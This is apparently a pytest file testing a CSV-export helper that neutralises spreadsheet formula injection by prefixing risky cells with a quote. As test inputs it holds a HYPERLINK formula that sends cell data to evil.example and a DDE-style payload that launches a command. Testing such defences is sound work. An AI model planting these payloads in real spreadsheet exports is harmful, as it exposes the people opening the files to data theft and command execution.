"""Safe CSV: text a spreadsheet would execute is written with a leading quote; numbers stay
numbers; the document still parses back to the same (quoted) text."""

from __future__ import annotations

import csv
import io

import pytest

from common.csvsafe import safe_cell, write_csv


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (
            '=HYPERLINK("https://evil.example/?"&A1,"Click")',
            '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
        ),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-5", "'-5"),  # text that looks like a number is still text
        ("St Mary's C of E Primary", "St Mary's C of E Primary"),
        ("", ""),
        (None, ""),
        (-1.5, "-1.5"),  # a real figure stays numeric
        (-3, "-3"),
        (0.25, "0.25"),
    ],
)
def test_cells(value: str | float | None, written: str) -> None:
    assert safe_cell(value) == written


def test_a_document_reads_back_with_formulas_neutralised() -> None:
    text = write_csv(("name", "delta"), [("=1+1", -2), ("Oak Academy", 3.5), (None, None)])
    assert text.endswith("\r\n")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["name", "delta"], ["'=1+1", "-2"], ["Oak Academy", "3.5"], ["", ""]]
